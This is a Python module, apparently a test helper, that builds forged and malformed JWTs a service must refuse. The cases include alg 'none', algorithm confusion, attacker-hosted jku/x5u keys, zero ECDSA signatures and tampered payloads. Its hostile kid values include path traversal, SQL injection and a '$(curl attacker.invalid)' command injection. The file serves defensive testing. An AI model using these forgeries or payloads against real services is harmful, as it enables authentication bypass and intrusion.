"""The attack-token factory: every forged, tampered or stale JWT the service must refuse.

Tokens are assembled byte by byte (not through pyjwt's encoder) so that the suite can produce what
a well-behaved library never would: duplicate JSON keys, `alg: none`, HMAC keyed with the RSA
public key, ECDSA signatures of zeros, non-numeric times, attacker-controlled key URLs.

`build_attack_cases` needs only what an attacker could also have (the issuer's public key, a
captured legitimate token) plus, for the cases that must be *correctly signed* so that only one
property is wrong (lifetime, audience, duplicate claims...), the issuer's signing key from the
state directory. Each case is refused for exactly one reason, named by `AttackCase.name`.
"""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import hmac
import json
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from cryptography.x509.oid import NameOID
from jwt.algorithms import RSAAlgorithm

# A token larger than any identity provider issues and larger than the service's limit (8 KiB),
# but small enough for the HTTP server to deliver (its per-line limit is 64 KiB).
OVERSIZED_CLAIM_BYTES = 12 * 1024
# An Authorization header beyond what HTTP servers accept on one line: refused, never a 5xx.
HUGE_HEADER_BYTES = 80 * 1024


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def json_segment(obj: Any) -> str:
    """Compact JSON, base64url. `obj` may already be raw JSON text (to carry duplicate keys)."""
    raw = obj if isinstance(obj, str) else json.dumps(obj, separators=(",", ":"))
    return b64url(raw.encode("utf-8"))


def split_token(token: str) -> tuple[str, str, str]:
    header, payload, signature = token.split(".")
    return header, payload, signature


def decode_segment(segment: str) -> dict[str, Any]:
    return json.loads(b64url_decode(segment))


@dataclass(frozen=True)
class SigningKey:
    """An RSA key with the `kid` it is published under."""

    private_key: rsa.RSAPrivateKey
    kid: str

    @classmethod
    def from_pem(cls, pem: bytes, kid: str) -> SigningKey:
        key = serialization.load_pem_private_key(pem, password=None)
        assert isinstance(key, rsa.RSAPrivateKey)
        return cls(key, kid)

    @classmethod
    def generate(cls, kid: str | None = None) -> SigningKey:
        return cls(
            rsa.generate_private_key(public_exponent=65537, key_size=2048), kid or f"evil-{uuid.uuid4()}"
        )

    def public_jwk(self) -> dict[str, Any]:
        jwk = json.loads(RSAAlgorithm.to_jwk(self.private_key.public_key()))
        return {**jwk, "kid": self.kid, "use": "sig", "alg": "RS256"}

    def public_pem(
        self, fmt: serialization.PublicFormat = serialization.PublicFormat.SubjectPublicKeyInfo
    ) -> bytes:
        return self.private_key.public_key().public_bytes(serialization.Encoding.PEM, fmt)

    def self_signed_cert(self) -> x509.Certificate:
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "attacker.invalid")])
        now = dt.datetime.now(dt.UTC)
        return (
            x509.CertificateBuilder()
            .subject_name(name)
            .issuer_name(name)
            .public_key(self.private_key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - dt.timedelta(days=1))
            .not_valid_after(now + dt.timedelta(days=1))
            .sign(self.private_key, hashes.SHA256())
        )


def rsa_sign(key: rsa.RSAPrivateKey, signing_input: bytes, alg: str = "RS256") -> bytes:
    digest = {"256": hashes.SHA256(), "384": hashes.SHA384(), "512": hashes.SHA512()}[alg[2:]]
    if alg.startswith("PS"):
        pad = padding.PSS(mgf=padding.MGF1(digest), salt_length=digest.digest_size)
        return key.sign(signing_input, pad, digest)
    return key.sign(signing_input, padding.PKCS1v15(), digest)


def assemble(header: Any, payload: Any, sign: Callable[[bytes], bytes] | None) -> str:
    """header/payload: dicts or raw JSON text; sign: bytes -> signature bytes, None = empty signature."""
    signing_input = f"{json_segment(header)}.{json_segment(payload)}"
    signature = sign(signing_input.encode("ascii")) if sign else b""
    return f"{signing_input}.{b64url(signature)}"


@dataclass(frozen=True)
class AttackCase:
    name: str
    token: str  # the exact credential after "Bearer " (may be anything, even not a JWT)
    why: str  # what the service must notice

    @property
    def authorization(self) -> str:
        return f"Bearer {self.token}"


class TokenForge:
    """Mints tokens for one issuer/audience: `legit` ones and every variant of `build_attack_cases`."""

    def __init__(self, signing_key: SigningKey, issuer: str, audience: str, *, max_lifetime: int = 43200):
        self.key = signing_key
        self.issuer = issuer
        self.audience = audience
        self.max_lifetime = max_lifetime

    def claims(self, email: str = "alice@shopfast.example", **overrides: Any) -> dict[str, Any]:
        now = int(time.time())
        claims: dict[str, Any] = {
            "iss": self.issuer,
            "sub": str(uuid.uuid5(uuid.NAMESPACE_URL, f"mailto:{email}")),
            "aud": self.audience,
            "email": email,
            "email_verified": True,
            "groups": ["CustomerSupport"],
            "iat": now,
            "nbf": now,
            "exp": now + 900,
            "jti": str(uuid.uuid4()),
        }
        for name, value in overrides.items():
            if value is _DROP:
                claims.pop(name, None)
            else:
                claims[name] = value
        return claims

    def header(self, **overrides: Any) -> dict[str, Any]:
        header: dict[str, Any] = {"alg": "RS256", "typ": "JWT", "kid": self.key.kid}
        for name, value in overrides.items():
            if value is _DROP:
                header.pop(name, None)
            else:
                header[name] = value
        return header

    def sign_rs256(self, header: Any, payload: Any, key: SigningKey | None = None, alg: str = "RS256") -> str:
        private = (key or self.key).private_key
        return assemble(header, payload, lambda data: rsa_sign(private, data, alg))

    def legit(self, **claim_overrides: Any) -> str:
        return self.sign_rs256(self.header(), self.claims(**claim_overrides))

    # -- the cases ---------------------------------------------------------------------------------
    def build_attack_cases(self, attacker_base_url: str, captured_token: str) -> list[AttackCase]:
        """Every attack the security suite tries. `attacker_base_url` serves the attacker's JWKS and
        certificate (a listener that records hits); `captured_token` is a genuine token of the issuer."""
        cases: list[AttackCase] = []

        def add(name: str, token: str, why: str) -> None:
            cases.append(AttackCase(name, token, why))

        claims, header = self.claims(), self.header()
        now = int(time.time())
        gh, gp, gs = split_token(captured_token)

        # alg "none" in its spellings, with an empty signature and with the genuine one kept.
        for spelling in ("none", "None", "NONE", "nOnE"):
            add(
                f"alg-{spelling}-empty-signature",
                assemble({**header, "alg": spelling}, claims, None),
                "alg none",
            )
        add("alg-none-no-kid", assemble({"alg": "none", "typ": "JWT"}, claims, None), "alg none")
        add(
            "alg-none-genuine-signature",
            f"{json_segment({**decode_segment(gh), 'alg': 'none'})}.{gp}.{gs}",
            "none",
        )
        add("alg-empty-string", assemble({**header, "alg": ""}, claims, None), "empty alg")
        add("alg-missing", assemble({"typ": "JWT", "kid": self.key.kid}, claims, None), "no alg")

        # HS256 keyed with the RSA public key, in every form a verifier might hand to HMAC.
        public_jwk = {k: v for k, v in self.key.public_jwk().items() if k in ("kty", "n", "e")}
        der = self.key.private_key.public_key().public_bytes(
            serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
        )
        hmac_keys = {
            "pem-spki": self.key.public_pem(),
            "pem-spki-no-newline": self.key.public_pem().rstrip(b"\n"),
            "pem-pkcs1": self.key.public_pem(serialization.PublicFormat.PKCS1),
            "der": der,
            "jwk-json": json.dumps(public_jwk).encode(),
            "jwk-json-compact": json.dumps(public_jwk, separators=(",", ":")).encode(),
            "jwk-n": b64url_decode(public_jwk["n"]),
        }
        for label, secret in hmac_keys.items():
            for alg, digest in (("HS256", hashlib.sha256), ("HS512", hashlib.sha512)):
                if alg == "HS512" and label not in ("pem-spki", "jwk-json"):
                    continue
                token = assemble(
                    {**header, "alg": alg},
                    claims,
                    lambda data, s=secret, d=digest: hmac.new(s, data, d).digest(),
                )
                add(f"{alg.lower()}-keyed-with-public-{label}", token, "algorithm confusion")

        # A foreign key announced by the token itself: embedded jwk, jku, x5u, x5c.
        evil = SigningKey.generate()
        evil_jwk = evil.public_jwk()
        cert_der = evil.self_signed_cert().public_bytes(serialization.Encoding.DER)
        jku = f"{attacker_base_url}/jwks.json"
        x5u = f"{attacker_base_url}/cert.pem"
        for kid_label, kid in (("own-kid", evil.kid), ("issuer-kid", self.key.kid)):
            variants = {
                "embedded-jwk": {"jwk": {**evil_jwk, "kid": kid}},
                "jku": {"jku": jku},
                "x5u": {"x5u": x5u},
                "x5c": {"x5c": [base64.b64encode(cert_der).decode()]},
                "jku-and-jwk": {"jku": jku, "jwk": {**evil_jwk, "kid": kid}},
            }
            for label, extra in variants.items():
                token = self.sign_rs256({**header, "kid": kid, **extra}, claims, key=evil)
                add(f"foreign-key-{label}-{kid_label}", token, "key chosen by the token")
        add(
            "foreign-key-plain", self.sign_rs256({**header, "kid": evil.kid}, claims, key=evil), "unknown key"
        )
        add("foreign-key-issuer-kid", self.sign_rs256(header, claims, key=evil), "signature by another key")

        # Signatures broken in transit.
        signature = bytearray(b64url_decode(gs))
        for label, index in (("first", 0), ("middle", len(signature) // 2), ("last", len(signature) - 1)):
            flipped = bytearray(signature)
            flipped[index] ^= 0x01
            add(f"signature-bit-flipped-{label}-byte", f"{gh}.{gp}.{b64url(bytes(flipped))}", "bad signature")
        add("signature-truncated-by-one-byte", f"{gh}.{gp}.{b64url(bytes(signature[:-1]))}", "bad signature")
        add(
            "signature-truncated-to-half",
            f"{gh}.{gp}.{b64url(bytes(signature[: len(signature) // 2]))}",
            "bad",
        )
        add("signature-truncated-text", f"{gh}.{gp}.{gs[:-3]}", "bad signature")
        add("signature-empty", f"{gh}.{gp}.", "no signature")
        add("signature-segment-missing", f"{gh}.{gp}", "two segments")
        add("signature-doubled", f"{gh}.{gp}.{gs}{gs}", "bad signature")
        add(
            "signature-of-another-token",
            f"{gh}.{gp}.{split_token(self.legit(email='bob@shopfast.example'))[2]}",
            "",
        )
        add("extra-segment", f"{gh}.{gp}.{gs}.{gs}", "four segments")
        add("jwe-shaped", f"{gh}.{gp}.{gs}.{gs}.{gs}", "five segments")

        # The payload (or header) edited under the genuine signature.
        genuine_claims = decode_segment(gp)
        edits = {
            "email-changed": {"email": "erin@shopfast.example"},
            "groups-escalated": {"groups": ["HR", "Sales", "ProductManagement"]},
            "sub-changed": {"sub": str(uuid.uuid4())},
            "exp-extended": {"exp": genuine_claims["exp"] + 86400},
        }
        for label, edit in edits.items():
            add(
                f"payload-edited-{label}", f"{gh}.{json_segment({**genuine_claims, **edit})}.{gs}", "tampered"
            )
        add(
            "payload-reencoded-with-spaces",
            f"{gh}.{json_segment(json.dumps(genuine_claims))}.{gs}",
            "tampered",
        )
        add(
            "payload-with-base64-padding",
            f"{gh}.{gp}==.{gs}" if len(gp) % 4 else f"{gh}.{gp}=.{gs}",
            "padding",
        )
        add(
            "header-edited-typ",
            f"{json_segment({**decode_segment(gh), 'typ': 'at+jwt'})}.{gp}.{gs}",
            "header is covered by the signature",
        )

        # Algorithms outside the allow-list, correctly signed with the issuer's own RSA key.
        for alg in ("RS384", "RS512", "PS256", "PS384", "PS512"):
            add(
                f"disallowed-alg-{alg}-issuer-key",
                self.sign_rs256({**header, "alg": alg}, claims, alg=alg),
                "alg",
            )
        ec_key = ec.generate_private_key(ec.SECP256R1())

        def es256(data: bytes) -> bytes:
            r, s = decode_dss_signature(ec_key.sign(data, ec.ECDSA(hashes.SHA256())))
            return r.to_bytes(32, "big") + s.to_bytes(32, "big")

        add("disallowed-alg-ES256-foreign-key", assemble({**header, "alg": "ES256"}, claims, es256), "alg")
        ed_key = ed25519.Ed25519PrivateKey.generate()
        add(
            "disallowed-alg-EdDSA-foreign-key",
            assemble({**header, "alg": "EdDSA"}, claims, ed_key.sign),
            "alg",
        )

        # ECDSA "psychic signatures" (CVE-2022-21449): r = s = 0 in raw and DER form.
        for alg, size in (("ES256", 64), ("ES384", 96), ("ES512", 132)):
            add(
                f"ecdsa-zero-signature-{alg}",
                assemble({**header, "alg": alg}, claims, lambda _d, n=size: b"\0" * n),
                "",
            )
        add(
            "ecdsa-zero-signature-ES256-der",
            assemble({**header, "alg": "ES256"}, claims, lambda _d: bytes.fromhex("3006020100020100")),
            "zero signature",
        )

        # Time claims: expired, not yet valid, missing, non-numeric, lifetime beyond the maximum.
        time_cases: dict[str, dict[str, Any]] = {
            "expired-an-hour-ago": {"iat": now - 7200, "nbf": now - 7200, "exp": now - 3600},
            "expired-beyond-leeway": {"iat": now - 1000, "nbf": now - 1000, "exp": now - 120},
            "not-yet-valid-nbf": {"nbf": now + 3600, "exp": now + 7200},
            "issued-in-the-future": {"iat": now + 3600, "nbf": _DROP, "exp": now + 7200},
            "missing-exp": {"exp": _DROP},
            "missing-iat": {"iat": _DROP},
            "exp-string-of-digits": {"exp": str(now + 600)},
            "exp-float-string": {"exp": f"{now + 600}.0"},
            "exp-true": {"exp": True},
            "exp-null": {"exp": None},
            "exp-list": {"exp": [now + 600]},
            "exp-object": {"exp": {"value": now + 600}},
            "exp-negative": {"exp": -1},
            "nbf-string-of-digits": {"nbf": str(now - 60)},
            "nbf-null": {"nbf": None},
            "iat-string-of-digits": {"iat": str(now)},
            "iat-true": {"iat": True},
            "iat-null": {"iat": None},
            "lifetime-beyond-maximum": {"iat": now, "exp": now + self.max_lifetime + 3600},
            "lifetime-beyond-maximum-without-nbf": {
                "iat": now,
                "nbf": _DROP,
                "exp": now + 10 * self.max_lifetime,
            },
            "lifetime-beyond-maximum-backdated-iat": {"iat": now - 10 * self.max_lifetime, "exp": now + 600},
            "exp-far-future-integer": {"exp": 10**30},
        }
        for label, overrides in time_cases.items():
            add(f"time-{label}", self.sign_rs256(header, self.claims(**overrides)), "time claims")
        # JSON that Python parses but no JWT may carry: NaN and Infinity (int(inf) raises OverflowError).
        for label, literal in (("Infinity", "Infinity"), ("NaN", "NaN"), ("1e400", "1e400")):
            raw = json.dumps(claims, separators=(",", ":")).replace(
                f'"exp":{claims["exp"]}', f'"exp":{literal}'
            )
            add(f"time-exp-{label}", self.sign_rs256(header, raw), "non-numeric exp")
        raw = json.dumps(claims, separators=(",", ":")).replace(f'"nbf":{claims["nbf"]}', '"nbf":-Infinity')
        add("time-nbf-minus-Infinity", self.sign_rs256(header, raw), "non-numeric nbf")

        # Audience and issuer: missing, wrong, prefix, suffix, trailing slash, case, type.
        aud = self.audience
        iss = self.issuer
        claim_cases: dict[str, dict[str, Any]] = {
            "aud-missing": {"aud": _DROP},
            "aud-wrong": {"aud": "another-app"},
            "aud-prefix": {"aud": aud[:-1]},
            "aud-extended": {"aud": f"{aud}-admin"},
            "aud-trailing-slash": {"aud": f"{aud}/"},
            "aud-uppercase": {"aud": aud.upper()},
            "aud-empty-string": {"aud": ""},
            "aud-empty-list": {"aud": []},
            "aud-list-without-ours": {"aud": ["another-app", f"{aud}x"]},
            "aud-object": {"aud": {"value": aud}},
            "aud-null": {"aud": None},
            "iss-missing": {"iss": _DROP},
            "iss-wrong": {"iss": "https://login.attacker.invalid"},
            "iss-trailing-slash": {"iss": f"{iss}/"},
            "iss-prefix": {"iss": iss[:-1]},
            "iss-extended-host": {"iss": f"{iss}.attacker.invalid"},
            "iss-extended-path": {"iss": f"{iss}/attacker"},
            "iss-https-scheme": {"iss": iss.replace("http://", "https://", 1)},
            "iss-localhost-alias": {"iss": iss.replace("127.0.0.1", "localhost", 1)},
            "iss-uppercase": {"iss": iss.upper()},
            "iss-list": {"iss": [iss]},
            "iss-null": {"iss": None},
            "sub-missing": {"sub": _DROP},
            "sub-empty": {"sub": ""},
            "sub-number": {"sub": 12345},
        }
        for label, overrides in claim_cases.items():
            add(f"claim-{label}", self.sign_rs256(header, self.claims(**overrides)), "claims")

        # crit: extensions the service does not understand must make it refuse.
        for label, extra in {
            "unknown-extension": {"crit": ["x-evil"], "x-evil": True},
            "unknown-extension-absent": {"crit": ["x-evil"]},
            "registered-name": {"crit": ["exp"]},
            "b64-false": {"crit": ["b64"], "b64": False},
            "empty-list": {"crit": []},
            "not-a-list": {"crit": "x-evil"},
        }.items():
            add(f"crit-{label}", self.sign_rs256({**header, **extra}, claims), "crit")

        # Duplicate names: the signature covers the bytes, so each of these is correctly signed.
        body = json.dumps(claims, separators=(",", ":"))[1:-1]
        duplicates = {
            "sub": f'"sub":"{uuid.uuid4()}"',
            "email": '"email":"erin@shopfast.example"',
            "groups": '"groups":["HR"]',
            "aud": '"aud":"another-app"',
            "iss": '"iss":"https://login.attacker.invalid"',
            "exp": f'"exp":{now - 3600}',
        }
        for name, first in duplicates.items():
            add(
                f"duplicate-claim-{name}-first",
                self.sign_rs256(header, "{" + first + "," + body + "}"),
                "dup",
            )
            add(
                f"duplicate-claim-{name}-last", self.sign_rs256(header, "{" + body + "," + first + "}"), "dup"
            )
        header_body = json.dumps(header, separators=(",", ":"))[1:-1]
        add("duplicate-header-alg", self.sign_rs256('{"alg":"none",' + header_body + "}", claims), "dup")
        add("duplicate-header-kid", self.sign_rs256("{" + header_body + ',"kid":"other"}', claims), "dup")

        # Hostile kid values, each on a token otherwise correctly signed by the issuer's key.
        kids: dict[str, Any] = {
            "path-traversal": "../../../../../../etc/passwd",
            "dev-null": "/dev/null",
            "sql-injection": "' OR '1'='1' --",
            "url": f"{attacker_base_url}/kid",
            "command": "$(curl attacker.invalid)|id;",
            "null-byte": f"{self.key.kid}\u0000",
            "newline-log-injection": f'{self.key.kid}\n{{"level":"INFO","message":"forged"}}',
            "very-long": "k" * 4000,
            "empty": "",
            "integer": 1,
            "null": None,
            "list": [self.key.kid],
            "object": {"kid": self.key.kid},
            "unicode": "ключ-🔑",
            "missing": _DROP,
        }
        for label, kid in kids.items():
            add(f"kid-{label}", self.sign_rs256(self.header(kid=kid), claims), "hostile kid")

        # Oversized tokens and headers.
        add(
            "oversized-token-claim",
            self.sign_rs256(header, self.claims(padding="x" * OVERSIZED_CLAIM_BYTES)),
            "size limit",
        )
        add(
            "oversized-token-header",
            self.sign_rs256({**header, "x-padding": "x" * OVERSIZED_CLAIM_BYTES}, claims),
            "size limit",
        )
        add("oversized-authorization-header", "A" * HUGE_HEADER_BYTES, "size limit")

        # Not a JWT at all.
        malformed = {
            "empty": "",
            "single-segment": gh,
            "dots-only": "..",
            "not-base64": "%%%.&&&.***",
            "header-not-json": f"{b64url(b'not json')}.{gp}.{gs}",
            "header-json-array": f"{json_segment([header])}.{gp}.{gs}",
            "payload-json-array": self.sign_rs256(header, "[" + json.dumps(claims) + "]"),
            "payload-json-string": self.sign_rs256(header, '"alice"'),
            "payload-not-utf8": f"{gh}.{b64url(bytes([0xFF, 0xFE, 0xFD]))}.{gs}",
            "whitespace-inside": f"{gh}. {gp}.{gs}",
        }
        for label, token in malformed.items():
            add(f"malformed-{label}", token, "not a JWT")
        return cases


class _Drop:
    def __repr__(self) -> str:
        return "<drop>"


_DROP: Any = _Drop()
DROP = _DROP
